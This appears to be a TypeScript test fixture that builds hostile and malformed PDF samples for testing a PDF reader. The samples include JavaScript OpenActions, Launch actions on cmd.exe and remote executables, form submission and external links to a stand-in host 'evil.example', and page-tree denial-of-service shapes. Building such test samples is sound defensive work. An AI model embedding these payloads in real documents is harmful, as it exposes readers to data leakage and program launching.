import { onePage, rawPdf } from './rawPdf.ts';

/** Where a hostile file tries to reach; nothing may ever ask for it. */
export const EVIL = 'http://evil.example';

const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [60 680 400 720] /A ${action} >>]`;
const deepTree = (depth: number) => {
  const nodes = Array.from(
    { length: depth },
    (_, at) => `<< /Type /Pages /Kids [${at + 3} 0 R] /Count 1 ${at ? `/Parent ${at + 1} 0 R` : ''} >>`,
  );
  const page = `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 612 792] >>`;
  return rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...nodes, page]);
};

/** Files that are made to do harm, or that broke on the way: by name, with whether they can be read at all. */
export const hostilePdfs: Record<string, { bytes: Buffer; opens: boolean }> = {
  'javascript-on-opening': {
    bytes: onePage('Hello', {
      catalogue: `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${EVIL}/js'\\);) >>`,
    }),
    opens: true,
  },
  'javascript-on-page': {
    bytes: onePage('Hello', { page: `/AA << /O << /S /JavaScript /JS (app.launchURL\\('${EVIL}/page'\\)) >> >>` }),
    opens: true,
  },
  'link-to-javascript': {
    bytes: onePage('Hello', { page: link('<< /S /URI /URI (javascript:alert\\(1\\)) >>') }),
    opens: true,
  },
  'address-on-opening': {
    bytes: onePage('Hello', { catalogue: `/OpenAction << /S /URI /URI (${EVIL}/open) >>` }),
    opens: true,
  },
  'launch-on-opening': {
    bytes: onePage('Hello', { catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    opens: true,
  },
  'launch-link': { bytes: onePage('Hello', { page: link(`<< /S /Launch /F (${EVIL}/a.exe) >>`) }), opens: true },
  'remote-link': {
    bytes: onePage('Hello', { page: link(`<< /S /GoToR /F (${EVIL}/b.pdf) /D [0 /Fit] >>`) }),
    opens: true,
  },
  'submitting-form': {
    bytes: onePage('Hello', {
      catalogue: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (go) /Rect [60 600 200 640] /A << /S /SubmitForm /F (${EVIL}/form) >> >>`,
      ],
    }),
    opens: true,
  },
  'note-without-a-picture': {
    bytes: onePage('Hello', {
      page: '/Annots [<< /Type /Annot /Subtype /Text /Name /Comment /Rect [300 690 320 710] /T (Dana) /Contents (Which year?) >>]',
    }),
    opens: true,
  },
  'picture-elsewhere': {
    bytes: onePage('Hello', {
      more: [
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${EVIL}/x.png) >> /Length 0 >>\nstream\n\nendstream`,
      ],
      page: '/Thumb 6 0 R',
    }),
    opens: true,
  },
  'deep-page-tree': { bytes: deepTree(4000), opens: true },
  'page-tree-in-a-circle': {
    bytes: rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    opens: false,
  },
  'no-pages': {
    bytes: rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    opens: false,
  },
  'a-billion-pages': {
    bytes: rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 1000000000 >>']),
    opens: false,
  },
  'page-of-a-kilometre': { bytes: onePage('Hello', { page: '/UserUnit 10000' }), opens: true },
  nonsense: { bytes: Buffer.from('%PDF-1.7\nnothing of the kind'), opens: false },
  empty: { bytes: Buffer.alloc(0), opens: false },
  encrypted: {
    bytes: rawPdf(
      ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'],
      `/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -44 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
    ),
    opens: false,
  },
  'not-a-pdf': { bytes: Buffer.from('MZ\u0000\u0001\u0002 a program called contract.pdf', 'latin1'), opens: false },
};
